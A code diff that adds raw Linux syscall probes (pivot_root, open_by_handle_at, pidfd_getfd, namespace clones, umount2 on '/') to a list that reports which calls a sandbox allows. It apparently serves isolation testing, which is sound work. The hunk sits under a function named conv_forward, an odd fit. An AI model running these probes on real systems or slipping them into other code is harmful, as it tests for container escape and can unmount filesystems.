@@ -27,6 +27,16 @@ def conv_forward():
         "personality": lambda: libc.personality(0x0040000),
         "outlive the parent": lambda: libc.prctl(1, 0, 0, 0, 0),
         "clone with namespaces": lambda: libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0),
+        "shmget": lambda: libc.shmget(0, 1 << 20, 0o1600),
+        "io_setup": lambda: libc.syscall(206, 1, ctypes.byref(ctypes.c_long())),
+        "pivot_root": lambda: libc.syscall(155, b".", b"."),
+        "open_tree": lambda: libc.syscall(428, -100, b"/", 1),
+        "pidfd_getfd": lambda: libc.syscall(438, 0, 0, 0),
+        "request_key": lambda: libc.syscall(249, b"user", b"x", None, -3),
+        "open_by_handle_at": lambda: libc.syscall(304, -100, None, 0),
+        "umount everything": lambda: libc.umount2(b"/", 2),
+        "a new clone": lambda: libc.syscall(435, None, 0),
+        "clone into a namespace": lambda: libc.syscall(56, 0x20000 | 17, 0, 0, 0, 0),
         "mknod": lambda: libc.mknod(b"device", 0o60600, 0x0801),
     }
     return [name for name, call in calls.items() if call() >= 0]
